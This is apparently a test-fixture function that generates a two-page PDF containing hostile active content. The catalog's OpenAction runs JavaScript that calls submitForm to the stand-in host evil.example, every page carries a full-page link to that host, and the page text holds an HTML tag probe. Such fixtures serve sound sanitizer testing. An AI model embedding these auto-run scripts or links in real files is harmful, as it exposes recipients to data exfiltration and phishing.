/** A PDF of two pages with text, a red square, a link, and a script that it wants to run when it is opened. */
export function pdf({ pages = 2, mediaBox = "0 0 300 200" } = {}) {
    const numbers = Array.from({ length: pages }, (_, at) => 4 + at * 2);
    const objects = [
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >> >>`,
        `<< /Type /Pages /Count ${pages} /Kids [${numbers.map((number) => `${number} 0 R`).join(" ")}] >>`,
        `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
        ...numbers.flatMap((number, at) => [
            `<< /Type /Page /Parent 2 0 R /MediaBox [${mediaBox}] /Contents ${number + 1} 0 R /Resources << /Font << /F 3 0 R >> >>
                /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (https://evil.example/) >> >>] >>`,
            stream(`1 0 0 rg 20 20 60 60 re f 0 g BT /F 18 Tf 20 150 Td (Letter page ${at + 1} <b>of</b> Dr Lee) Tj ET`),
        ]),
    ];
    let file = "%PDF-1.7\n";
    const places = objects.map((object, at) => {
        const place = file.length;
        file += `${at + 1} 0 obj\n${object}\nendobj\n`;
        return place;
    });
    const start = file.length;
    file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((place) => `${`${place}`.padStart(10, "0")} 00000 n \n`).join("")}`;
    return Buffer.from(`${file}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`, "latin1");
}

const stream = (content) => `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
